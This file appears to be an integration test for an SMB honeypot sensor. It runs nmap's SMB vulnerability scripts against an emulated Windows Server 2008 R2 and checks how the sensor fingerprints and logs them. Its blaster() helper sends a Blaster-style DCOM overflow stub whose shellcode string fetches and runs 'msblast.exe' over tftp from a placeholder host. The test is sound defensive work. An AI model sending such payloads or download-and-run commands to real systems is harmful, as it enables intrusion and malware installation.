// Real-tool test: nmap's SMB scripts and version detection against the SMB sensor on 127.0.0.45:445.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startApiaryProcess } from '../../helpers/apiary-process.js';
import { runTool } from '../../helpers/run-tool.js';
import { connect } from 'node:net';
import { encodeBind, encodeRequest } from '../../../src/sensors/smb/codec/dcerpc.js';

/** Sends a DCOM activation request with a Blaster-style oversized stub to the endpoint mapper port. */
async function blaster(host: string): Promise<Buffer> {
  const shellcode = Buffer.concat([Buffer.alloc(32, 0x90), Buffer.from([0xe8, 0, 0, 0, 0, 0x5e]), Buffer.from('cmd /c tftp -i 203.0.113.77 GET msblast.exe & start msblast.exe\0', 'latin1')]);
  const stub = Buffer.concat([Buffer.alloc(64, 0x41), Buffer.from('\\\\', 'latin1'), Buffer.alloc(1200, 0x42), shellcode]);
  const bind = encodeBind(1, [{ abstract: { uuid: '4d9f4ab8-7d1c-11cf-861e-0020af6e7c57', version: 0, minor: 0 }, transfers: [{ uuid: '8a885d04-1ceb-11c9-9fe8-08002b104860', version: 2, minor: 0 }] }]);
  return new Promise((resolve, reject) => {
    let got = Buffer.alloc(0);
    const s = connect({ host, port: 135 }, () => s.write(bind));
    s.on('data', (d) => {
      got = Buffer.concat([got, d]);
      if (got.length >= 24 && got[2] === 12) {
        s.write(encodeRequest(2, 0, 0, stub));
        setTimeout(() => s.end(), 300);
      }
    });
    s.on('close', () => resolve(got));
    s.on('error', reject);
  });
}

const HOST = '127.0.0.45';

test('nmap: ms08-067 and ms17-010 VULNERABLE, consistent OS discovery, protocols, security modes, shares, -sV Windows', async () => {
  const apiary = await startApiaryProcess({
    sensor: 'smb-nmap',
    services: { smb: { listen: [`${HOST}:445`], netbios_listen: [`${HOST}:139`], epmap_listen: [`${HOST}:135`], os: 'windows-2008r2', netbios_name: 'FILESRV07', workgroup: 'ACCOUNTS' } },
  });
  try {
    const scripts = 'smb-double-pulsar-backdoor,smb-vuln-ms08-067,smb-vuln-ms17-010,smb-os-discovery,smb-protocols,smb-security-mode,smb2-security-mode,smb-enum-shares';
    const r = await runTool('nmap', ['-Pn', '-n', '-p135,139,445', '-sV', '--script', scripts, HOST], { timeoutMs: 120_000 });
    const out = r.stdout;
    assert.equal(r.code, 0, r.stderr);
    assert.match(out, /smb-vuln-ms08-067:\s*\n\|\s+VULNERABLE:[\s\S]*?State: VULNERABLE/);
    assert.match(out, /smb-vuln-ms17-010:\s*\n\|\s+VULNERABLE:[\s\S]*?State: VULNERABLE/);
    assert.match(out, /OS: Windows Server 2008 R2 Standard 7601 Service Pack 1 \(Windows Server 2008 R2 Standard 6\.1\)/);
    assert.match(out, /NetBIOS computer name: FILESRV07/);
    assert.match(out, /Workgroup: ACCOUNTS/);
    assert.match(out, /NT LM 0\.12 \(SMBv1\)[\s\S]*?\b202\b[\s\S]*?\b210\b/);
    assert.match(out, /message_signing: disabled/);
    assert.match(out, /Message signing enabled but not required/);
    for (const share of ['ADMIN$', 'C$', 'IPC$', 'Public']) assert.ok(out.includes(`\\\\${HOST}\\${share}`), `share ${share} listed`);
    // With scripts, -sV names the OS that smb-os-discovery found, as it does for a real Windows host.
    assert.match(out, /445\/tcp\s+open\s+microsoft-ds\s+(?:Microsoft Windows Server 2008 R2 - 2012|Windows Server 2008 R2 Standard 7601 Service Pack 1) microsoft-ds \(workgroup: ACCOUNTS\)/);
    assert.match(out, /139\/tcp\s+open\s+netbios-ssn\s+Microsoft Windows netbios-ssn/);
    assert.match(out, /135\/tcp\s+open\s+msrpc\s+Microsoft Windows RPC/);
    assert.doesNotMatch(out, /dionaea|honeypot|samba/i);
    assert.doesNotMatch(out, /Double Pulsar SMB Backdoor/, 'no backdoor is claimed before anyone ran EternalBlue');
    const dump = await runTool('/usr/bin/python3', ['/usr/share/doc/python3-impacket/examples/rpcdump.py', HOST]);
    assert.match(dump.stdout, /No endpoints found/);
    const ack = await blaster(HOST);
    assert.equal(ack[2], 12, 'the activation interface binds');
    await apiary.stop();
    const events = await apiary.events();
    const names = new Set(events.filter((e) => e.type === 'exploit.attempt').map((e) => `${e.name}|${e.cve}`));
    assert.ok(names.has('MS08-067|CVE-2008-4250'), 'the nmap MS08-067 check is recorded');
    assert.ok(names.has('MS17-010|CVE-2017-0144'), 'the nmap MS17-010 check is recorded');
    const ms03 = events.find((e) => e.type === 'exploit.attempt' && e.name === 'MS03-026');
    assert.equal(ms03?.cve, 'CVE-2003-0352');
    const sc = events.find((e) => e.type === 'shellcode.detected' && e.session === ms03?.session);
    assert.deepEqual(sc?.urls, ['tftp://203.0.113.77/msblast.exe']);
    const dl = events.find((e) => e.type === 'file.download' && e.session === ms03?.session);
    assert.equal(dl?.outcome, 'disabled', 'fetching is off by default');
    const reqs = events.filter((e) => e.type === 'rpc.request');
    assert.ok(reqs.some((e) => e.interface === 'srvsvc' && e.operation === 'NetprPathCompare'));
    assert.ok(reqs.some((e) => e.interface === 'srvsvc' && e.operation === 'NetrShareEnum'));
    assert.ok(events.some((e) => e.type === 'rpc.bind' && e.interface === 'srvsvc' && e.accepted === true));
  } finally {
    await apiary.stop();
  }
});
